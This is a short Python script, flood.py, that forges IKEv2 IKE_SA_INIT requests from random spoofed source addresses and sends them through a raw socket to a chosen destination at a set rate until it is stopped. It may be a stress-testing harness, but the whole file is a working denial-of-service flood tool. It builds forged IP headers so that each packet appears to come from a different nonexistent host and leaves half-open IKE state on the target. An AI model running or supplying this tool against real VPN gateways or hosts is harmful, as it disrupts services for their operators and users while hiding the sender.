#!/usr/bin/python3
"""IKE_SA_INIT requests from addresses that do not exist, each well formed and from another source.

flood.py DESTINATION PER_SECOND: makes them, prints "ready", and sends until SIGTERM; prints how many.
The sources are in 11.0.0.0 to 99.255.255.255.
"""
import os
import random
import signal
import socket
import struct
import sys
import time


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, attributes=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attributes), kind, 0, number) + attributes


def request():
    """AES-GCM-16 with 128 bits, PRF SHA2-256, curve25519; RFC 7296 3.3, 3.4, 3.9."""
    transforms = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128)) + transform(False, 2, 5)
                  + transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    body = (payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + os.urandom(32))
            + payload(0, os.urandom(32)))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def packet(destination):
    source = bytes((random.randrange(11, 100), *os.urandom(3)))
    message = request()
    udp = struct.pack("!HHHH", random.randrange(1024, 65535), 500, 8 + len(message), 0) + message
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source,
                       socket.inet_aton(destination)) + udp


def main():
    destination, rate, done = sys.argv[1], int(sys.argv[2]), False

    def end(*_):
        nonlocal done
        done = True

    signal.signal(signal.SIGTERM, end)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = [packet(destination) for _ in range(20000)]
    print("ready", flush=True)
    time.sleep(0.1)
    start, sent = time.monotonic(), 0
    while not done:
        if sent > (time.monotonic() - start) * rate:
            time.sleep(0.002)
            continue
        try:
            raw.sendto(packets[sent % len(packets)], (destination, 0))
        except OSError:
            pass
        sent += 1
    print(sent, flush=True)


main()
